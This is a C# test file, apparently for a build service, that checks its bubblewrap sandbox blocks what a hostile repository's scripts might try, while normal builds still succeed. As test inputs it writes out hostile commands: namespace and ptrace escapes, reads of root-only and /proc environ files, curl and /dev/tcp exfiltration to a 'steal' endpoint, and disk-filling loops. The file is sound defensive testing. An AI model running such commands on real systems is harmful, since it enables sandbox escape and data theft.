using Builder.Core.Policy;
using Builder.Tests.Support;
using Builder.Worker.Sandbox;
using Xunit.Abstractions;

namespace Builder.Tests.Sandbox;

/// <summary>
/// What a hostile repository's scripts try, through the real bubblewrap sandbox as the worker
/// configures it: each attack is refused, and the same workspace's legitimate work still succeeds.
/// </summary>
[Collection(SandboxCollection.Name)]
[System.Runtime.Versioning.SupportedOSPlatform("linux")]
public sealed class HostileCommandTests(ITestOutputHelper log) : IDisposable
{
    static readonly TimeSpan Generous = TimeSpan.FromMinutes(2);
    readonly SandboxTestFolders _folders = new();
    // A folder commands see on purpose (toolchains live in /opt): only file permissions guard what is in it.
    readonly SandboxTestFolders _visible = new("/opt");

    public void Dispose()
    {
        _folders.Dispose();
        _visible.Dispose();
    }

    async Task<SandboxResult> Run(string command, Func<SandboxRequest, SandboxRequest>? adjust = null, SandboxOptions? options = null)
    {
        var request = new SandboxRequest(command, _folders.Workspace) { Timeout = Generous };
        using var sandbox = SandboxFactory.Bubblewrap(options ?? new SandboxOptions { HiddenPaths = [_folders.DataDirectory] });
        var result = await sandbox.RunAsync(adjust is null ? request : adjust(request), CancellationToken.None);
        log.WriteLine($"exit {result.ExitCode}, limit {result.LimitHit ?? "none"}, notices: {string.Join("; ", result.Notices)}");
        log.WriteLine(result.Tail(20));
        return result;
    }

    /// <summary>A root-only file in a folder the sandbox shows: only the uid stops a reader.</summary>
    string RootOnlyFile()
    {
        var file = Path.Combine(_visible.Folder("host-files"), "root-only.key");
        File.WriteAllText(file, "root-only-8d1e");
        File.SetUnixFileMode(file, UnixFileMode.UserRead | UnixFileMode.UserWrite);
        File.SetUnixFileMode(Path.GetDirectoryName(file)!, (UnixFileMode)0b111_101_101);
        File.SetUnixFileMode(_visible.Root, (UnixFileMode)0b111_101_101);
        return file;
    }

    [Fact]
    public async Task Host_files_outside_the_system_folders_are_not_there_even_when_world_readable()
    {
        // World-readable, outside any hidden folder: what a bind of the whole host root used to show.
        var exposed = Path.Combine(_folders.Folder("host-files"), "notes.txt");
        File.WriteAllText(exposed, "world-readable-5c2b");
        File.SetUnixFileMode(exposed, (UnixFileMode)0b110_100_100);
        var project = Directory.CreateDirectory("/srv").FullName;

        var result = await Run($"cat '{exposed}' || echo ABSENT; ls / | tr '\\n' ' ' | sed 's/^/ROOT: /'; echo; " +
                               $"ls -A {project} /home /root /work 2>&1 | grep -c 'No such file' | sed 's/^/missing: /'; " +
                               "echo built > out.txt && cat /usr/bin/env > /dev/null && echo BUILD-OK");

        result.Succeeded.ShouldBeTrue(result.Output);
        result.Output.ShouldNotContain("world-readable-5c2b");
        result.Output.ShouldContain("ABSENT");
        var root = result.Output.Split('\n').Single(l => l.StartsWith("ROOT: ", StringComparison.Ordinal))["ROOT: ".Length..]
            .Split(' ', StringSplitOptions.RemoveEmptyEntries);
        root.ShouldNotContain("srv");
        root.ShouldNotContain("root");
        root.ShouldNotContain("work");
        root.ShouldContain("usr");
        root.ShouldContain("etc");
        result.Output.ShouldContain("missing: 3"); // /srv, /root and /work; /home holds only the sandbox's own home
        result.Output.ShouldContain("BUILD-OK");
    }

    [Fact]
    public async Task Commands_run_as_the_unprivileged_sandbox_user_who_cannot_read_root_only_files()
    {
        var secret = RootOnlyFile();

        var result = await Run($"id -u; cat {secret} || echo REFUSED; echo built > out.txt && echo BUILD-OK");

        result.Succeeded.ShouldBeTrue(result.Output);
        var uid = int.Parse(result.Output.Split('\n')[0].Trim());
        uid.ShouldNotBe(0);
        result.Output.ShouldNotContain("root-only-8d1e");
        result.Output.ShouldContain("Permission denied");
        result.Output.ShouldContain("BUILD-OK");
        File.ReadAllText(Path.Combine(_folders.Workspace, "out.txt")).ShouldBe("built\n");
    }

    [Fact]
    public async Task Under_the_workers_own_uid_the_same_file_is_readable_which_is_what_the_sandbox_user_prevents()
    {
        var secret = RootOnlyFile();

        var result = await Run($"cat {secret}", options: new SandboxOptions { HiddenPaths = [_folders.DataDirectory], RunAs = "worker" });

        result.Output.ShouldContain("root-only-8d1e");
    }

    [Fact]
    public async Task Files_the_worker_wrote_are_handed_to_the_sandbox_user_so_a_build_can_write_beside_them()
    {
        // The worker writes generated code as root between commands; the build then writes obj/ next to it.
        var project = Directory.CreateDirectory(Path.Combine(_folders.Workspace, "src", "NewProject")).FullName;
        File.WriteAllText(Path.Combine(project, "Program.cs"), "class P {}");

        var result = await Run("mkdir -p src/NewProject/obj && echo compiled > src/NewProject/obj/out.dll && echo >> src/NewProject/Program.cs && echo OK");

        result.Succeeded.ShouldBeTrue(result.Output);
        File.ReadAllText(Path.Combine(project, "obj", "out.dll")).ShouldBe("compiled\n");
    }

    [Fact]
    public async Task Escapes_through_proc_namespaces_mounts_and_ptrace_fail_and_the_build_still_runs()
    {
        // The test process stands in for the worker: its pid, as seen from the host.
        var result = await Run($$"""
            ls /proc | grep -E '^[0-9]+$' | wc -l | sed 's/^/processes: /'
            grep -l PATH /proc/[0-9]*/environ 2>/dev/null | wc -l | sed 's/^/environs: /'
            unshare --user --map-root-user true 2>/dev/null && echo USERNS-ESCAPED || echo userns-refused
            nsenter --target 1 --mount true 2>/dev/null && echo NSENTER-ESCAPED || echo nsenter-refused
            mount -t tmpfs none /usr 2>/dev/null && echo MOUNT-ESCAPED || echo mount-refused
            python3 -c "import ctypes; print('ptrace', ctypes.CDLL(None, use_errno=True).ptrace(16, {{Environment.ProcessId}}, 0, 0))"
            echo built > out.txt && echo BUILD-OK
            """);

        result.Succeeded.ShouldBeTrue(result.Output);
        result.Output.ShouldContain("userns-refused");
        result.Output.ShouldContain("nsenter-refused");
        result.Output.ShouldContain("mount-refused");
        result.Output.ShouldContain("ptrace -1");
        result.Output.ShouldNotContain("ESCAPED");
        // Only the sandbox's own few processes, none of the host's (the worker's environment among them).
        int.Parse(Between(result.Output, "processes: ")).ShouldBeLessThan(10);
        result.Output.ShouldContain("BUILD-OK");
    }

    [Fact]
    public async Task Restore_reaches_an_allowed_registry_through_the_proxy_and_nothing_else()
    {
        using var registry = new LoopbackHttpHost("registry index");
        using var exfiltration = new LoopbackHttpHost("collected");
        var policy = new EgressPolicy([$"127.0.0.1:{registry.Port}"]);

        var result = await Run($"""
            curl -sS -m 20 http://127.0.0.1:{registry.Port}/v3/index.json; echo
            curl -sS -m 20 -p http://127.0.0.1:{registry.Port}/tunnelled; echo
            curl -sS -m 20 -o /dev/null -w 'exfiltration answered %{"{"}http_code{"}"}\n' http://127.0.0.1:{exfiltration.Port}/steal
            curl -sS -m 20 -p http://127.0.0.1:{exfiltration.Port}/steal-tunnelled 2>&1 | tail -1
            (exec 3<>/dev/tcp/127.0.0.1/{exfiltration.Port}) 2>/dev/null && echo DIRECT-CONNECTED || echo direct-refused
            """, r => r with { Network = true, Egress = policy });

        result.Succeeded.ShouldBeTrue(result.Output);
        result.Output.ShouldContain("registry index");
        registry.Requests.ShouldContain("GET /v3/index.json HTTP/1.1");
        registry.Requests.ShouldContain("GET /tunnelled HTTP/1.1");
        result.Output.ShouldContain("exfiltration answered 403");
        result.Output.ShouldContain("direct-refused");
        result.Output.ShouldNotContain("DIRECT-CONNECTED");
        result.Output.ShouldContain($"[builder] egress refused: 127.0.0.1:{exfiltration.Port}");
        result.EgressDenied.ShouldBe([new Builder.Worker.Sandbox.Egress.EgressDenial("127.0.0.1", exfiltration.Port)]);
        exfiltration.Requests.ShouldBeEmpty();
    }

    [Fact]
    public async Task Without_the_filter_restore_keeps_the_open_network_as_configured()
    {
        using var host = new LoopbackHttpHost("open");

        var result = await Run($"curl -sS -m 20 --noproxy '*' http://127.0.0.1:{host.Port}/", r => r with { Network = true, Egress = null });

        result.Output.ShouldContain("open");
    }

    [Fact]
    public async Task A_command_that_fills_the_disk_with_small_files_is_stopped_by_its_disk_limit()
    {
        var options = new SandboxOptions { HiddenPaths = [_folders.DataDirectory], DiskCheckInterval = TimeSpan.FromMilliseconds(100) };
        const long limit = 20L * 1024 * 1024;

        // Each file stays under the per-file limit; together they pass the disk limit.
        var filled = await Run("for i in $(seq 400); do head -c 1048576 /dev/zero > fill-$i.bin; done; sleep 60; echo NOT-STOPPED",
            r => r with { MaxDiskBytes = limit }, options);
        var legitimate = await Run("echo compiled > app.dll && echo BUILD-OK", r => r with { MaxDiskBytes = limit }, options);

        filled.LimitHit.ShouldBe("disk");
        filled.Output.ShouldContain("disk limit of 20 MiB");
        filled.Output.ShouldNotContain("NOT-STOPPED");
        legitimate.Succeeded.ShouldBeTrue(legitimate.Output);
        legitimate.Output.ShouldContain("BUILD-OK");
    }

    [Fact]
    public async Task The_private_tmp_is_no_way_around_the_disk_limit()
    {
        var result = await Run("head -c 31457280 /dev/zero > /tmp/big.bin && echo WROTE-30-MIB; head -c 1048576 /dev/zero > /tmp/small.bin && echo SMALL-OK",
            r => r with { MaxDiskBytes = 20L * 1024 * 1024 });

        result.Output.ShouldContain("No space left on device");
        result.Output.ShouldNotContain("WROTE-30-MIB");
    }

    [Fact]
    public async Task A_cpu_quota_throttles_a_busy_loop_to_its_share()
    {
        var result = await Run("TIMEFORMAT=%U; time timeout 2 sh -c 'while :; do :; done'", r => r with { CpuCores = 0.2 });

        result.Notices.ShouldNotContain(n => n.Contains("CPU quota"));
        var cpuSeconds = double.Parse(result.Output.Trim().Split('\n')[^1], System.Globalization.CultureInfo.InvariantCulture);
        log.WriteLine($"CPU time of a 2 s busy loop under a 0.2-core quota: {cpuSeconds:0.00} s");
        cpuSeconds.ShouldBeGreaterThan(0.05);
        cpuSeconds.ShouldBeLessThan(1.0);
    }

    static string Between(string text, string prefix)
    {
        var start = text.IndexOf(prefix, StringComparison.Ordinal) + prefix.Length;
        return text[start..text.IndexOf('\n', start)].Trim();
    }
}
